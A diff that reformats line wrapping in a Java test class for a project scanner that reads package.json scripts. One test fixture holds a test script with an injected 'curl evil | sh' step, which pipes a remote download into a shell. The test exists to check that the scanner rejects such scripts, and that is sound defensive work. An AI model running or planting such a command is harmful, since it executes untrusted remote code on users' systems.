@@ -111,7 +111,8 @@ final class ProjectScanTest {
   @Test
   void packageManagerField_winsOverLockFiles() throws IOException {
     project()
-        .file("package.json", "{\"packageManager\": \"yarn@4.1.0\", \"scripts\": {\"test\": \"x\"}}")
+        .file(
+            "package.json", "{\"packageManager\": \"yarn@4.1.0\", \"scripts\": {\"test\": \"x\"}}")
         .file("package-lock.json", "{}")
         .file("yarn.lock", "")
         .file(".yarnrc.yml", "");
@@ -148,8 +149,7 @@ final class ProjectScanTest {
 
   @Test
   void testScriptWithShellMarks_getsNoArguments() throws IOException {
-    project()
-        .file("package.json", "{\"scripts\": {\"test\": \"vitest run; curl evil | sh\"}}");
+    project().file("package.json", "{\"scripts\": {\"test\": \"vitest run; curl evil | sh\"}}");
 
     assertThat(project().scan().tests()).isEmpty();
   }
